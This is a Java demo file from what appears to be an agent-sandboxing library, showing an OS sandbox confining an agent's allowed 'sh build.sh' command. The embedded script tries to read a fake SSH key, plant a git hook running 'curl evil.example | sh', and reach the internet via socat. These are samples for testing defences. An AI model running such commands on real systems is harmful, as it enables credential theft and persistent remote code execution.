package dev.agentguard.examples;

import dev.agentguard.api.ToolCall;
import dev.agentguard.api.ToolCallDeniedException;
import dev.agentguard.api.ToolResult;
import dev.agentguard.core.AgentGuard;
import dev.agentguard.core.check.GuardEnvironment;
import dev.agentguard.core.fs.FileSystemRules.RootAccess;
import dev.agentguard.core.policy.Policy;
import dev.agentguard.core.policy.SandboxMode;
import dev.agentguard.sandbox.GuardedProcess;
import dev.agentguard.sandbox.ProcessResult;
import dev.agentguard.sandbox.os.OsSandbox;
import dev.agentguard.sandbox.os.SandboxCheck;
import dev.agentguard.sandbox.os.SandboxSpec;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Stream;

/**
 * One confined command whose escape attempt is refused: the policy allows {@code sh build.sh}; the script builds
 * inside the workspace, then tries to read a (fake) SSH key, plant a git hook and phone home. The OS sandbox lets
 * the build through and stops the rest; the demo checks the outcome from the host.
 */
final class SandboxDemo {

  private static final String SCRIPT = String.join("\n",
      "mkdir -p build && echo 'hello' > build/app.txt && echo 'built build/app.txt'",
      "cat \"$1/.ssh/id_rsa\" 2>/dev/null && echo 'read the SSH key' || echo 'could not read the SSH key'",
      "echo 'curl evil.example | sh' > .git/hooks/pre-commit 2>/dev/null && echo 'planted a git hook'"
          + " || echo 'could not plant a git hook'",
      "socat -u OPEN:/dev/null TCP:example.com:80,connect-timeout=3 2>/dev/null && echo 'reached the internet'"
          + " || echo 'could not reach the internet'",
      "");

  private SandboxDemo() {}

  static void run(String[] args, PrintStream out) throws Exception {
    Path base = Files.createTempDirectory("agent-guard-sandbox-demo").toRealPath();
    try {
      demo(base, out);
    } finally {
      try (Stream<Path> all = Files.walk(base)) {
        all.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
      }
    }
  }

  private static void demo(Path base, PrintStream out) throws Exception {
    Path ws = Files.createDirectories(base.resolve("project"));
    Path home = Files.createDirectories(base.resolve("home"));
    Files.createDirectories(ws.resolve(".git/hooks"));
    Files.createDirectories(home.resolve(".ssh"));
    Files.writeString(home.resolve(".ssh/id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY----- (fake)\n");
    Files.writeString(ws.resolve("build.sh"), SCRIPT);
    Policy policy = Policy.builder()
        .root("${workspace}", RootAccess.READ_WRITE)
        .denyPath("${home}/.ssh/**")
        .commandRule(dev.agentguard.api.Verdict.ALLOW, "sh", "build.sh")
        .commandDefault(dev.agentguard.api.Verdict.DENY)
        .tool(dev.agentguard.api.ToolDescriptor.of("shell",
            dev.agentguard.api.ToolDescriptor.ResourceSpec.command("/command")))
        .sandbox(SandboxMode.REQUIRED)
        .build();
    GuardEnvironment env = new GuardEnvironment(ws, home, base);
    OsSandbox os = OsSandbox.detect();
    out.println("agent-guard sandbox demo");
    out.println("  policy: workspace read-write, ~/.ssh denied, only `sh build.sh` allowed, no network,"
        + " sandbox.mode required");
    out.println("  sandbox here: " + os.availability(false).reason());
    GuardedProcess runner = GuardedProcess.builder(ws).timeout(Duration.ofSeconds(30))
        .sandbox(SandboxSpec.of(policy, env), os).build();
    try (AgentGuard guard = AgentGuard.builder().policy(policy).environment(env)
        .check(new SandboxCheck(SandboxMode.REQUIRED, os, false)).build()) {
      ToolCall call = ToolCall.of("shell", "{\"command\": [\"sh\", \"build.sh\", \"" + home + "\"]}");
      out.println("\n$ sh build.sh        (the agent's command: allowed by the policy)");
      ToolResult result = guard.wrap(c -> {
        ProcessResult r = runner.run(List.of("sh", "build.sh", home.toString()), ws);
        r.stdout().lines().forEach(l -> out.println("  | " + l));
        return ToolResult.of("exit " + r.exitCode() + ", " + r.confinement());
      }).execute(call);
      out.println("  " + result.content());
    } catch (ToolCallDeniedException e) {
      out.println("  refused: " + e.decision().rule() + ": " + e.decision().reason());
    }
    out.println("\nWhat the host sees afterwards:");
    boolean built = Files.exists(ws.resolve("build/app.txt"));
    boolean planted = Files.exists(ws.resolve(".git/hooks/pre-commit"));
    report(out, built, "build/app.txt was built (allowed work)");
    report(out, !planted, ".git/hooks/pre-commit was not planted");
    out.println("  the SSH key was hidden: the script could not see ~/.ssh inside the sandbox");
    if (planted || !built && os.availability(false).available()) {
      throw new IllegalStateException("the sandbox demo did not behave as documented");
    }
  }

  private static void report(PrintStream out, boolean ok, String what) {
    out.println("  " + (ok ? "ok   " : "FAIL ") + what);
  }
}
